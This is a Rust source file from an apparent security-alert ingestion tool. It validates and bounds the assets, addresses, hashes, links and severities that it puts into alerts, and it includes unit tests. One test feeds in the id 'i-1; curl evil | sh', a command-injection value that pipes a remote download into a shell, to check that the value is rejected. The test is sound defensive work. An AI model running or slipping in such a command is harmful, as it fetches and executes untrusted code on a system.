//! How readers fill an [`Alert`]: what is malformed or too much is left out, and the alert says so.

use std::fmt::Write as _;

use custody::digest::sha256;
use serde_json::Value;

use super::fields::{Fields, address, line};
use super::{Alert, AssetKind, AssetRef, Attack, Status, Unparsed};

/// How many assets one alert may name. An attack sequence has up to 400.
const MOST_ASSETS: usize = 500;

/// How many of anything else.
const MOST: usize = 200;

const MOST_NOTES: usize = 20;

/// Noted where a severity is missing.
pub(super) const NO_SEVERITY: &str = "the sender gives no severity that can be read; it counts as 0";

/// The length of an id that is kept as it is.
const LONGEST_ID: usize = 256;

impl Alert {
    /// An alert of a product, with its id there. An id that is too long or holds what cannot be shown becomes its SHA-256:
    /// it has to stay one and the same.
    pub(super) fn begin(source: &str, id: &str) -> Self {
        let as_it_is = id.chars().count() <= LONGEST_ID && line(id) == id;
        let source_id = if as_it_is { id.to_owned() } else { format!("sha256:{}", sha256(id.as_bytes())) };
        Self { source: source.to_owned(), source_id, ..Self::default() }
    }

    /// Says what could not be used.
    pub(super) fn note(&mut self, what: impl AsRef<str>) {
        let what = line(what.as_ref());
        if self.notes.len() < MOST_NOTES && !self.notes.contains(&what) {
            self.notes.push(what);
        }
    }

    /// Names an asset once. One whose id has not the form of its kind is left out, and noted.
    pub(super) fn asset(&mut self, kind: AssetKind, id: &str, role: &str) {
        if id.is_empty() || self.assets.iter().any(|asset| asset.kind == kind && asset.id == id) {
            return;
        }
        if !kind.allows(id) {
            self.note(format!("{id:?} is no id of a {}", kind.word()));
        } else if self.assets.len() >= MOST_ASSETS {
            self.note(format!("more than {MOST_ASSETS} assets; the rest is left out"));
        } else {
            self.assets.push(AssetRef { kind, id: id.to_owned(), role: role.to_owned() });
        }
    }

    /// Names a host by each name that it has.
    pub(super) fn hosts(&mut self, names: &[String], role: &str) {
        for name in names {
            self.asset(AssetKind::Host, name, role);
        }
    }

    /// Whether an asset is the main one already.
    pub(super) fn has_primary(&self) -> bool {
        self.assets.iter().any(|asset| asset.role == "primary")
    }

    /// Makes the first asset the main one where the sender said of none that it is.
    pub(super) fn first_is_primary(&mut self) {
        if !self.has_primary()
            && let Some(first) = self.assets.first_mut()
        {
            "primary".clone_into(&mut first.role);
        }
    }

    pub(super) fn principal(&mut self, name: &str) {
        add(&mut self.principals, name.to_owned());
    }

    /// Adds an address of the other side; what is none is passed over, for senders write `<NA>` and names there.
    pub(super) fn ip(&mut self, text: &str) {
        if let Some(address) = address(text) {
            add(&mut self.ips, address.to_string());
        }
    }

    /// Adds an MD5, SHA-1, SHA-256 or SHA-512 in hexadecimal; all zeroes mean none.
    pub(super) fn hash(&mut self, text: &str) {
        let hash = text.to_ascii_lowercase();
        let is_hash =
            matches!(hash.len(), 32 | 40 | 64 | 128) && hash.bytes().all(|byte| byte.is_ascii_hexdigit());
        if is_hash && hash.bytes().any(|byte| byte != b'0') {
            add(&mut self.hashes, hash);
        }
    }

    pub(super) fn attack(&mut self, tactic: &str, technique: &str) {
        let attack = Attack { tactic: tactic.to_owned(), technique: technique.to_owned() };
        if attack != Attack::default() && self.attack.len() < MOST && !self.attack.contains(&attack) {
            self.attack.push(attack);
        }
    }

    /// Sets the link if it is one of the web.
    pub(super) fn link(&mut self, link: &str) {
        let is_link = (link.starts_with("https://") || link.starts_with("http://"))
            && link.bytes().all(|byte| byte.is_ascii_graphic() && !b"\"'<>\\`".contains(&byte));
        if is_link {
            link.clone_into(&mut self.link);
        } else if !link.is_empty() {
            self.note(format!("{link:?} is no link"));
        }
    }

    /// Sets the severity, 0 to 100, and the sender's own word for it.
    pub(super) fn severity(&mut self, severity: Option<f64>, label: String) {
        let Some(severity) = severity else {
            self.note(NO_SEVERITY);
            self.severity_label = label;
            return;
        };
        self.severity = percent(severity);
        self.severity_label = label;
    }

    /// Sets when it was first and last seen; a time that is there but cannot be read is noted.
    pub(super) fn seen(&mut self, fields: Fields<'_>, first: &str, last: &str) {
        for path in [first, last] {
            let text = fields.text(path);
            if !text.is_empty() && super::fields::time(&text).is_none() {
                self.note(format!("{path}: {text:?} is no time with a zone"));
            }
        }
        (self.first_seen, self.last_seen) = (fields.time(first), fields.time(last));
    }

    /// Empties account, region and cloud where they hold what no account, region or cloud is called.
    pub(super) fn check_place(&mut self) {
        let is_name =
            |text: &str| text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.:".contains(&byte));
        let cloud = matches!(self.cloud.as_str(), "" | "aws" | "azure" | "gcp");
        let wrong = [
            (&mut self.account, "account", is_name as fn(&str) -> bool),
            (&mut self.region, "region", is_name),
            (&mut self.cloud, "cloud", if cloud { |_| true } else { |_| false }),
        ];
        let mut notes = Vec::new();
        for (text, what, is_right) in wrong {
            if text.len() > 128 || !is_right(text) {
                notes.push(format!("{:?} is no name of a {what}", std::mem::take(text)));
            }
        }
        notes.iter().for_each(|note| self.note(note));
    }

    /// Marks it as over. That is another occurrence than the alert before.
    pub(super) fn resolved_if(&mut self, over: bool) {
        if over && self.status == Status::Firing {
            self.status = Status::Resolved;
            self.occurrence.push_str("/resolved");
        }
    }
}

fn add(list: &mut Vec<String>, text: String) {
    if !text.is_empty() && list.len() < MOST && !list.contains(&text) {
        list.push(text);
    }
}

/// Rounded into 0 to 100.
pub(super) fn percent(number: f64) -> u8 {
    (0..=100_u8).find(|percent| number < f64::from(*percent) + 0.5).unwrap_or(100)
}

/// What senders' words for severity mean here. The bands are those of AWS: low below 40, medium from 40, high from 70,
/// critical from 90.
pub(super) fn severity_of_word(word: &str) -> Option<f64> {
    Some(match word.to_ascii_lowercase().as_str() {
        "critical" | "fatal" | "emergency" | "page" | "very high" => 95.0,
        "high" | "major" | "error" | "severe" => 80.0,
        "medium" | "moderate" | "warning" | "warn" => 50.0,
        "low" | "minor" | "notice" => 30.0,
        "informational" | "information" | "info" | "debug" => 10.0,
        "none" | "undefined" => 0.0,
        _ => return None,
    })
}

/// An id that must be there.
pub(super) fn required(fields: Fields<'_>, path: &str) -> Result<String, Unparsed> {
    let text = fields.raw(path);
    if fields.is_rounded(path) {
        return Err(rounded(path));
    }
    if text.trim().is_empty() { Err(Unparsed(format!("`{path}` is not there"))) } else { Ok(text) }
}

/// Why an id is none of which digits were lost.
pub(super) fn rounded(path: &str) -> Unparsed {
    Unparsed(format!(
        "`{path}` is a number of too many digits to be told from others: it has to be written as a text"
    ))
}

/// SHA-256 of values, for senders that give no id: the same however keys are ordered and spaced.
pub(super) fn id_of(values: &[&Value]) -> String {
    let mut text = String::new();
    for value in values {
        spell(&mut text, value);
        text.push('\n');
    }
    format!("sha256:{}", sha256(text.as_bytes()))
}

fn spell(text: &mut String, value: &Value) {
    match value {
        Value::Array(items) => {
            text.push('[');
            for item in items {
                spell(text, item);
                text.push(',');
            }
            text.push(']');
        }
        Value::Object(map) => {
            let mut entries: Vec<_> = map.iter().collect();
            entries.sort_by_key(|(key, _)| *key);
            text.push('{');
            for (key, value) in entries {
                let _ = write!(text, "{}:", Value::from(key.as_str())); // writing to a String cannot fail
                spell(text, value);
                text.push(',');
            }
            text.push('}');
        }
        plain => {
            let _ = write!(text, "{plain}");
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn an_id_that_cannot_be_kept_becomes_its_hash_and_stays_the_same() {
        assert_eq!(Alert::begin("x", "a:b/c").source_id, "a:b/c");
        let long = "a".repeat(300);
        assert!(Alert::begin("x", &long).source_id.starts_with("sha256:"));
        assert_eq!(Alert::begin("x", &long).source_id, Alert::begin("x", &long).source_id);
        assert_ne!(Alert::begin("x", &long).source_id, Alert::begin("x", &"b".repeat(300)).source_id);
    }

    #[test]
    fn a_malformed_asset_is_left_out_and_said_so_and_none_is_named_twice() {
        let mut alert = Alert::default();
        alert.asset(AssetKind::Ec2Instance, "i-0123456789abcdef0", "primary");
        alert.asset(AssetKind::Ec2Instance, "i-0123456789abcdef0", "other");
        alert.asset(AssetKind::Ec2Instance, "i-1; curl evil | sh", "primary");
        assert_eq!(alert.assets.len(), 1);
        assert_eq!(alert.notes, ["\"i-1; curl evil | sh\" is no id of a ec2_instance"]);
    }

    #[test]
    fn lists_are_bounded() {
        let mut alert = Alert::default();
        for number in 0..2000_u32 {
            alert.asset(AssetKind::Host, &format!("h{number}"), "primary");
            alert.principal(&format!("u{number}"));
            alert.note(format!("n{number}"));
        }
        assert_eq!((alert.assets.len(), alert.principals.len(), alert.notes.len()), (500, 200, 20));
    }

    #[test]
    fn severities_are_rounded_and_kept_within_0_and_100() {
        assert_eq!([-5.0, 0.4, 43.75, 79.5, 100.0, 1e300].map(percent), [0, 0, 44, 80, 100, 100]);
    }

    #[test]
    fn ids_made_of_content_do_not_depend_on_the_order_of_keys() {
        let (a, b) =
            (json!({"x": 1, "y": [1, {"p": 2, "q": 3}]}), json!({"y": [1, {"q": 3, "p": 2}], "x": 1}));
        assert_eq!(id_of(&[&a]), id_of(&[&b]));
        assert_ne!(id_of(&[&a]), id_of(&[&json!({"x": 1, "y": [1, {"p": 2, "q": 4}]})]));
        assert_ne!(id_of(&[&json!(["a,", "b"])]), id_of(&[&json!(["a", ",b"])]));
    }
}
